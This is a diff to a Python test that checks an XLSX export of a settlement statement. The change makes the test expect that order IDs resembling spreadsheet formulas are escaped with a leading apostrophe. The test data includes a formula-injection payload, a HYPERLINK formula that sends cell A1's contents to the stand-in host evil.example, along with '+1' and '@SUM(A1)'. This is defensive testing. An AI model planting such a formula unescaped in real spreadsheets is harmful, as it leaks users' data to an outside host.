@@ -139,7 +139,8 @@ def test_xlsx_holds_the_statement_and_its_rows_as_text_and_exact_numbers(tmp_pat
     assert list(sheets) == ["Statements", "Order details"]
     assert sheets["Statements"].to_dicts() == [{"Statement ID": "S0", "Total settlement amount": "-1234567.89"}]
     back = sheets["Order details"]
-    assert back["Order/adjustment ID"].to_list() == details["Order/adjustment ID"].to_list()  # long IDs never pass through a float
+    # Long IDs never pass through a float; text a spreadsheet would run gets the CSV's `'` in front.
+    assert back["Order/adjustment ID"].to_list() == ["576460752303423488123", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1", "'@SUM(A1)"]
     assert back["Quantity"].to_list() == ["1", "2", "3", "4"]
     with zipfile.ZipFile(tmp_path / "S0.xlsx") as archive:
         sheet = archive.read("xl/worksheets/sheet2.xml").decode()
